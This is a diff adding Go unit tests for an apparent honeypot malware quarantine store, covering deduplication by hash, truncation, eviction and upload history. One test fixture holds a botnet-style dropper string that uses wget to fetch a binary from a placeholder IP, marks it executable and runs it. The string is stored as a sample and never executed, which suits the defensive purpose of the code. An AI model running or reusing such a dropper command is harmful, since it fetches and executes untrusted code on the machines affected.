@@ -0,0 +1,95 @@
+package quarantine
+
+import (
+	"fmt"
+	"os"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+func TestSaveDeduplicatesByContent(t *testing.T) {
+    store := NewStore(t.TempDir(), 0, 0)
+    payload := []byte("#!/bin/sh\ncd /tmp; wget http://203.0.113.7/x86; chmod +x x86; ./x86\n")
+
+    first, err := store.Save(payload, Upload{Filename: "/tmp/bot.sh", SessionID: "s1", Service: "ssh", Src: "203.0.113.7:4242"})
+    require.NoError(t, err)
+    second, err := store.Save(payload, Upload{Filename: "/root/.x", SessionID: "s2", Service: "ssh", Src: "198.51.100.9:5151"})
+    require.NoError(t, err)
+
+    assert.Equal(t, Sum(payload), first.SHA256)
+    assert.Equal(t, first.SHA256, second.SHA256)
+    assert.Equal(t, int64(len(payload)), second.Size)
+    require.Len(t, second.Uploads, 2)
+    assert.Equal(t, "/tmp/bot.sh", second.Uploads[0].Filename)
+    assert.Equal(t, "s2", second.Uploads[1].SessionID)
+    assert.True(t, first.FirstSeen.Equal(second.FirstSeen))
+
+    stored, err := os.ReadFile(store.Path(first.SHA256))
+    require.NoError(t, err)
+    assert.Equal(t, payload, stored)
+    info, err := os.Stat(store.Path(first.SHA256))
+    require.NoError(t, err)
+    assert.Equal(t, os.FileMode(0400), info.Mode().Perm())
+
+    sample, err := store.Lookup(first.SHA256)
+    require.NoError(t, err)
+    assert.Len(t, sample.Uploads, 2)
+}
+
+func TestSaveTruncatesLargeFiles(t *testing.T) {
+    store := NewStore(t.TempDir(), 4, 0)
+
+    sample, err := store.Save([]byte("ELF-binary"), Upload{Filename: "x86"})
+    require.NoError(t, err)
+    assert.Equal(t, Sum([]byte("ELF-")), sample.SHA256)
+    assert.Equal(t, int64(4), sample.Size)
+    assert.True(t, sample.Uploads[0].Truncated)
+}
+
+func TestSaveEvictsTheLeastRecentlySeenSamples(t *testing.T) {
+    dir := t.TempDir()
+    store := NewStore(dir, 0, 10)
+    start := time.Now()
+
+    old, err := store.Save([]byte("aaaa"), Upload{Filename: "a", Timestamp: start})
+    require.NoError(t, err)
+    recent, err := store.Save([]byte("bbbb"), Upload{Filename: "b", Timestamp: start.Add(time.Second)})
+    require.NoError(t, err)
+    // Seeing the first sample again makes the second the least recently seen
+    _, err = store.Save([]byte("aaaa"), Upload{Filename: "a", Timestamp: start.Add(2 * time.Second)})
+    require.NoError(t, err)
+
+    // A store reopened on the same directory counts what is already there
+    store = NewStore(dir, 0, 10)
+    _, err = store.Save([]byte("cccc"), Upload{Filename: "c", Timestamp: start.Add(3 * time.Second)})
+    require.NoError(t, err)
+
+    _, err = os.Stat(store.Path(recent.SHA256))
+    assert.True(t, os.IsNotExist(err))
+    _, err = store.Lookup(recent.SHA256)
+    assert.True(t, os.IsNotExist(err))
+    _, err = os.Stat(store.Path(old.SHA256))
+    assert.NoError(t, err)
+
+    _, err = store.Save([]byte("this sample is larger than the store"), Upload{Filename: "d"})
+    assert.Error(t, err)
+}
+
+func TestSaveKeepsTheMostRecentUploads(t *testing.T) {
+    store := NewStore(t.TempDir(), 0, 0)
+    payload := []byte("mirai")
+
+    var sample *Sample
+    for i := 0; i < maxUploads+5; i++ {
+        var err error
+        sample, err = store.Save(payload, Upload{Filename: "/tmp/x", SessionID: fmt.Sprint(i)})
+        require.NoError(t, err)
+    }
+    assert.Equal(t, maxUploads+5, sample.UploadCount)
+    require.Len(t, sample.Uploads, maxUploads)
+    assert.Equal(t, "5", sample.Uploads[0].SessionID)
+    assert.Equal(t, fmt.Sprint(maxUploads+4), sample.Uploads[maxUploads-1].SessionID)
+}